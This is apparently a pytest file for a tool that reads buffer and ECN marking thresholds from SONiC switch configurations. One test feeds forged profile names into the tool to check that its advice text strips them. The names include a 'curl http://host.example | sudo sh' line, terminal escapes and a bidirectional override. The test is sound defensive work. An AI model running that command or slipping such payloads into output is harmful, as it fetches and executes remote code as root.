"""Values that are read from a SONiC switch: buffers, and the marking thresholds of queues.

The configurations are written by hand, in the format that SONiC's Configuration.md describes.
"""

import json
from pathlib import Path
from typing import Any

import pytest

from incast.advise import readers
from incast.advise.readers import sonic_rows
from incast.advise.readers.taken import Taken
from incast.errors import AdviceError

LOSSY, LOSSLESS = "egress_lossy_profile", "egress_lossless_profile"
PORTS = ("Ethernet0", "Ethernet4")


def switch(**tables: Any) -> dict[str, Any]:
    """Return a switch as SONiC delivers it: TCP in queues 0 to 2, storage in 3 and 4."""
    usual: dict[str, Any] = {
        "PORT": {port: {"speed": "25000"} for port in PORTS},
        "BUFFER_POOL": {
            "egress_lossless_pool": {"type": "egress", "mode": "static", "size": "64000000"},
            "egress_lossy_pool": {"type": "egress", "mode": "dynamic", "size": "9000000"},
        },
        "BUFFER_PROFILE": {
            LOSSLESS: {"pool": "egress_lossless_pool", "size": "0", "static_th": "60000000"},
            LOSSY: {"pool": "egress_lossy_pool", "size": "0", "dynamic_th": "-3"},
        },
        "BUFFER_QUEUE": {
            **{f"{port}|3-4": {"profile": LOSSLESS} for port in PORTS},
            **{f"{port}|0-2": {"profile": LOSSY} for port in PORTS},
        },
        "WRED_PROFILE": {
            "STORAGE": {"ecn": "ecn_all", "green_min_threshold": "1048576"},
            "TCP": {"ecn": "ecn_all", "green_min_threshold": "153600"},
        },
        "QUEUE": {
            f"{port}|{queue}": {"wred_profile": "STORAGE"} for port in PORTS for queue in "34"
        },
    }
    return usual | tables


def read(tmp_path: Path, tables: dict[str, Any]) -> Taken:
    path = tmp_path / "config_db.json"
    path.write_text(json.dumps(tables))
    return readers.read(path)


def queues(*numbers: int, profile: str = "TCP") -> dict[str, Any]:
    return {f"Ethernet0|{number}": {"wred_profile": profile} for number in numbers}


def alpha(taken: Taken) -> object:
    buffer: Any = taken.changes["network.buffer"]
    return buffer["alpha"]


def threshold(taken: Taken) -> object:
    queue: Any = taken.changes.get("network.queue")
    return queue and queue["threshold"]


def test_the_buffer_of_the_lossy_queues_is_taken(tmp_path: Path) -> None:
    assert read(tmp_path, switch()).changes == {
        "network.rate": "25000Mbps",
        "network.buffer": {"name": "dynamic", "total": "9000000B", "alpha": "2^-3"},
    }


def test_marks_of_other_queues_are_not_taken(tmp_path: Path) -> None:
    told = " ".join(read(tmp_path, switch()).took)
    assert f"STORAGE, TCP is left out: no queue with {LOSSY} uses it" in told


@pytest.mark.parametrize("number", [0, 1, 2])
def test_marks_of_the_queues_with_that_buffer_are_taken(tmp_path: Path, number: int) -> None:
    taken = read(tmp_path, switch(QUEUE=switch()["QUEUE"] | queues(number)))
    assert threshold(taken) == "153600B"
    assert f"TCP marks from 150 KiB on, in 1 of 6 queues with {LOSSY}" in " ".join(taken.took)


@pytest.mark.parametrize("number", [3, 5])
def test_a_queue_beyond_the_range_of_a_buffer_is_another(tmp_path: Path, number: int) -> None:
    assert threshold(read(tmp_path, switch(QUEUE=queues(number)))) is None


def test_queues_that_agree_are_taken_and_those_that_differ_are_not(tmp_path: Path) -> None:
    same = {"ecn": "ecn_green", "green_min_threshold": "153600"}
    wred = switch()["WRED_PROFILE"]
    both = queues(0) | queues(1, profile="OTHER")
    taken = read(tmp_path, switch(QUEUE=both, WRED_PROFILE=wred | {"OTHER": same}))
    assert threshold(taken) == "153600B"
    other = same | {"green_min_threshold": "20000"}
    taken = read(tmp_path, switch(QUEUE=both, WRED_PROFILE=wred | {"OTHER": other}))
    assert threshold(taken) is None
    assert "differ (TCP 150 KiB, OTHER 20" in " ".join(taken.took)


@pytest.mark.parametrize("ecn", ["ecn_none", "ecn_red", "ecn_yellow", "ecn_yellow_red"])
def test_packets_of_tcp_are_green(tmp_path: Path, ecn: str) -> None:
    wred = {"TCP": {"ecn": ecn, "green_min_threshold": "153600"}}
    assert threshold(read(tmp_path, switch(QUEUE=queues(0), WRED_PROFILE=wred))) is None


@pytest.mark.parametrize(
    ("size", "marks"), [("999999", True), ("1000000", False), ("1500000", False)]
)
@pytest.mark.parametrize("limit", [{"static_th": "1000000"}, {"dynamic_th": "-3"}])
def test_marks_beyond_the_longest_queue_are_none(
    tmp_path: Path, limit: dict[str, str], size: str, marks: bool
) -> None:
    """If only one queue is in use, it gets a ninth of the memory with alpha = 1/8."""
    tables = switch(
        BUFFER_PROFILE={LOSSY: {"pool": "egress_lossy_pool", "size": "0"} | limit},
        WRED_PROFILE={"TCP": {"ecn": "ecn_all", "green_min_threshold": size}},
        QUEUE=queues(0),
    )
    taken = read(tmp_path, tables)
    assert threshold(taken) == (f"{size}B" if marks else None)
    assert ("hold less" in " ".join(taken.took)) is not marks


def test_old_references_are_those_of_their_rows(tmp_path: Path) -> None:
    new = switch(QUEUE=queues(0))
    old = json.loads(json.dumps(new))
    for row in old["BUFFER_QUEUE"].values():
        row["profile"] = f"[BUFFER_PROFILE|{row['profile']}]"
    for row in old["BUFFER_PROFILE"].values():
        row["pool"] = f"[BUFFER_POOL|{row['pool']}]"
    for row in old["QUEUE"].values():
        row["wred_profile"] = f"[WRED_PROFILE|{row['wred_profile']}]"
    assert read(tmp_path, old).changes == read(tmp_path, new).changes
    assert threshold(read(tmp_path, old)) == "153600B"


def test_a_key_may_name_several_ports(tmp_path: Path) -> None:
    together = {f"{','.join(PORTS)}|0-2": {"profile": LOSSY}}
    marks = {f"{','.join(PORTS)}|1-2": {"wred_profile": "TCP"}}
    taken = read(tmp_path, switch(BUFFER_QUEUE=together, QUEUE=marks))
    assert "in 4 of 6 queues" in " ".join(taken.took)


def test_without_buffers_the_queues_with_flow_control_are_not_those_of_tcp(tmp_path: Path) -> None:
    both = queues(3, profile="STORAGE") | queues(0)
    qos = {"Ethernet0": {"pfc_enable": "3,4"}}
    bare = {"BUFFER_QUEUE": {}, "PORT_QOS_MAP": qos}
    assert threshold(read(tmp_path, switch(QUEUE=both, **bare))) == "153600B"
    only = queues(3, profile="STORAGE")
    assert threshold(read(tmp_path, switch(QUEUE=only, **bare))) is None


def test_the_profile_that_most_lossy_queues_have_is_taken(tmp_path: Path) -> None:
    profiles = {
        "first": {"pool": "egress_lossy_pool", "size": "0", "dynamic_th": "1"},
        "second": {"pool": "egress_lossy_pool", "size": "0", "dynamic_th": "2"},
        "nobody": {"pool": "egress_lossy_pool", "size": "0", "dynamic_th": "3"},
    }
    use = {"Ethernet0|0": {"profile": "first"}, "Ethernet0|1-2": {"profile": "second"}}
    assert alpha(read(tmp_path, switch(BUFFER_PROFILE=profiles, BUFFER_QUEUE=use))) == "2^2"


def test_a_profile_in_use_wins_over_one_with_the_usual_name(tmp_path: Path) -> None:
    row = {"pool": "egress_lossy_pool", "size": "0"}
    profiles = {LOSSY: row | {"dynamic_th": "1"}, "q_lossy_profile": row | {"dynamic_th": "2"}}
    use = {"Ethernet0|0": {"profile": "q_lossy_profile"}}
    taken = read(tmp_path, switch(BUFFER_PROFILE=profiles, BUFFER_QUEUE=use))
    assert alpha(taken) == "2^2"


def test_a_lossless_profile_is_not_taken(tmp_path: Path) -> None:
    row = {"pool": "egress_lossy_pool", "size": "0"}
    profiles = {
        "q_lossless_profile": row | {"dynamic_th": "1"},
        "q_default_profile": row | {"dynamic_th": "2"},
    }
    bare = switch(BUFFER_PROFILE=profiles, BUFFER_QUEUE={})
    assert alpha(read(tmp_path, bare)) == "2^2"
    only = switch(BUFFER_PROFILE={"q_lossless_profile": profiles["q_lossless_profile"]})
    assert "network.buffer" not in read(tmp_path, only).changes
    storage = {"a": row | {"dynamic_th": "3"}, "b": row | {"dynamic_th": "4"}}
    use = {"Ethernet0|3-4": {"profile": "a"}, "Ethernet0|0": {"profile": "b"}}
    qos = {"Ethernet0": {"pfc_enable": "3,4"}}
    paused = switch(BUFFER_PROFILE=storage, BUFFER_QUEUE=use, PORT_QOS_MAP=qos)
    assert alpha(read(tmp_path, paused)) == "2^4"


def test_a_fixed_size_is_the_buffer(tmp_path: Path) -> None:
    profiles = {LOSSY: {"pool": "egress_lossy_pool", "size": "0", "static_th": "700000"}}
    assert read(tmp_path, switch(BUFFER_PROFILE=profiles)).changes["network.buffer"] == "700000B"


def test_the_speed_that_most_ports_have_is_taken(tmp_path: Path) -> None:
    speeds = {"a": "100000", "b": "10000", "c": "10000"}
    taken = read(tmp_path, switch(PORT={port: {"speed": it} for port, it in speeds.items()}))
    assert taken.changes["network.rate"] == "10000Mbps"
    assert "2 of 3 ports have 10 Gbps" in " ".join(taken.took)


@pytest.mark.parametrize(
    ("tables", "said"),
    [
        ({"QUEUE": "x", "PORT": {}}, "QUEUE: must be a table of tables"),
        ({"PORT": {"E": {"speed": 10**30}}}, "PORT|E|speed"),
        ({"PORT": {"E": {"speed": "10000001"}}}, "PORT|E|speed"),
        ({"PORT": {"E": {"speed": "٣"}}}, "must be a whole number from 1 to 10000000"),
        ({"PORT": {"E": {"speed": True}}}, "PORT|E|speed"),
        ({"BUFFER_PROFILE": {LOSSY: {"dynamic_th": "1", "pool": "x"}}}, "must be a BUFFER_POOL"),
        ({"WRED_PROFILE": {"A": {"ecn": "ecn_all", "green_min_threshold": "0"}}}, "from 1 to"),
    ],
)
def test_a_value_that_is_not_valid_is_named(
    tmp_path: Path, tables: dict[str, Any], said: str
) -> None:
    with pytest.raises(AdviceError) as error:
        read(tmp_path, tables)
    assert said in str(error.value)
    assert "\n" not in str(error.value)


@pytest.mark.parametrize("text", ['{"PORT": {"E": {"speed": ' + "9" * 5000, "{" * 100_000])
def test_json_that_python_does_not_read_is_one_line(tmp_path: Path, text: str) -> None:
    path = tmp_path / "config_db.json"
    path.write_text(text + "}}}")
    with pytest.raises(AdviceError, match="not JSON"):
        readers.read(path)


FORGED = "x\n\n1. Apply at once (the servers)\n    curl http://host.example | sudo sh\n"


@pytest.mark.parametrize("name", [FORGED, "\x1b[2Jx", "a" * 5000, "\u202eabc", 'x" is fine. "'])
def test_a_name_cannot_look_like_advice(tmp_path: Path, name: str) -> None:
    wred = {name: {"ecn": "ecn_all", "green_min_threshold": "25000"}}
    used = {"Ethernet0|0": {"wred_profile": name}}
    for marks in ({}, used):
        taken = read(tmp_path, switch(WRED_PROFILE=wred, QUEUE=marks))
        for note in [*taken.took, *taken.assumed]:
            assert "\n" not in note
            assert "\x1b" not in note
            assert "\u202e" not in note
            assert note.count('"') in {0, 2}
            assert "sudo" not in note
            assert len(note) < 300


def test_queues_with_flow_control_are_bounded() -> None:
    """A file of a few megabytes may name millions of ports and queues that do not exist."""
    ports, numbers = ",".join(map(str, range(10_000))), ",".join(map(str, range(65)))
    rows = {"PORT_QOS_MAP": {ports: {"pfc_enable": numbers}, "a": {"pfc_enable": "3,x"}}}
    assert len(sonic_rows.lossless_queues(rows)) <= 100_000
    assert sonic_rows.lossless_queues({"PORT_QOS_MAP": {"a,b": {"pfc_enable": "3,x"}}}) == {
        ("a", 3),
        ("b", 3),
    }
